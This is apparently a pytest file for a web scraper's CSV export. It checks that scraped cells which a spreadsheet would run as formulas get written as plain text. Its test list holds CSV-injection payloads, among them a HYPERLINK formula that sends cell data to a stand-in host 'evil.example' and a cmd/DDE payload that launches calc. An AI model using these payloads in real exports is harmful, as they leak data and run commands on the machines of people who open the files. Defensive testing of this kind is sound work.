"""Hostile scraped text in exports (issue #15): CSV cells that a spreadsheet would run as
formulas are written as text, and exported files are private to their owner."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

from scraperv4.export import _write_text, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    records = [{"fields": {"name": text, "price": 3, "note": "plain"}} for text in HOSTILE]
    records.append({"=evil": "x", "fields": {"name": "ok", "price": -4}})
    out = tmp_path / "items.csv"
    with open(out, "w", newline="", encoding="utf-8") as handle:
        assert _write_text("csv", iter(records), handle) == len(records)
    with open(out, newline="", encoding="utf-8") as handle:
        read = list(csv.reader(handle))
    header, body = read[0], read[1:]
    assert header == ["fields.name", "fields.price", "fields.note", "'=evil"]
    for text, row in zip(HOSTILE, body):
        assert row[0] == "'" + text, row
        assert row[1] == "3" and row[2] == "plain"
    # A number stays a number (only strings are scraped text); a missing cell is empty.
    assert body[-1] == ["ok", "-4", "", "x"]


def test_cells_that_are_not_formulas_are_unchanged() -> None:
    for text in ["", "plain", "a=b", "1-2", "'=quoted", " =spaced", "€5"]:
        assert neutralise(text) == text
    for value in [None, 0, -1.5, True]:
        assert neutralise(value) == value


def test_the_cli_help_says_so() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "scraperv4", "results", "export", "--help"],
        capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    assert "formula" in result.stdout and "CSV injection" in " ".join(result.stdout.split())
